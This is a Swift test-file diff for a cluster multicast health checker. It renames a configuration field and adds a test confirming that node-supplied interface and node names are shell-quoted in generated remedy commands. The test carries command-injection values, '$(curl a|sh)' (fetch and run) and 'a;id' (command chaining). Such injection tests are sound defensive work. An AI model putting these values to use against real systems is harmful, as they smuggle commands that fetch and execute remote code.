@@ -6,7 +6,7 @@ import Testing
     private static func configuration(seed: UInt32 = 42) -> ClusterConfiguration {
         ClusterConfiguration(
             name: "web", address: IPv4Address(10, 8, 0, 1), prefixLength: 16, interface: "eth0",
-            mac: MACAddress(number: 0x0100_5e08_0001), hashMode: .sourceIP, totalNodes: 2, hashInit: seed)
+            mac: MACAddress(number: 0x0100_5e08_0001), hashMode: .sourceIP, bucketCount: 2, hashInit: seed)
     }
 
     private static func node(
@@ -46,6 +46,21 @@ import Testing
         #expect(
             Self.codes([Self.node("a", owned: [1, 2], health: health)])
                 == ["interface_down", "address_missing", "mac_missing", "arp_rewrite_missing"])
+    }
+
+    @Test func `a name that a node supplies is a word of a command, whatever it is`() throws {
+        var node = Self.node("a", owned: [1, 2], health: MulticastHealth(interfaceUp: false, macJoined: false))
+        node.sample?.configuration.interface = "$(curl a|sh)"
+        #expect(
+            Self.findings([node]).map(\.remedy) == [
+                "on a: ip link set '$(curl a|sh)' up", "on a: ip maddress add 01:00:5e:08:00:01 dev '$(curl a|sh)'",
+            ])
+        var bare = NodeStatus(name: "a", state: .live, lost: node.sample, isBare: true)
+        var snapshot = ClusterSnapshot(configuration: try #require(node.sample).configuration, nodes: [bare])
+        #expect(snapshot.worstFindings().contains { $0.remedy.contains(" --interface '$(curl a|sh)' ") })
+        bare.name = "a;id"
+        snapshot.nodes = [bare]
+        #expect(snapshot.worstFindings().contains { $0.remedy.hasSuffix(" --own 'a;id=1-2'") })
     }
 
     @Test func `a connection-tracking table that is full or nearly is found`() throws {
@@ -264,7 +279,7 @@ import Testing
         node.sample?.configuration.hashMode = .sourceIPSourcePort
         #expect(Self.codes([Self.node("a", owned: [1]), node]) == ["mode_mismatch"])
         node = Self.node("b", owned: [2])
-        node.sample?.configuration.totalNodes = 3
+        node.sample?.configuration.bucketCount = 3
         #expect(Self.codes([Self.node("a", owned: [1]), node]) == ["total_mismatch"])
         node = Self.node("b", owned: [2])
         node.sample?.configuration.mac = MACAddress(number: 0x0100_5e08_0002)
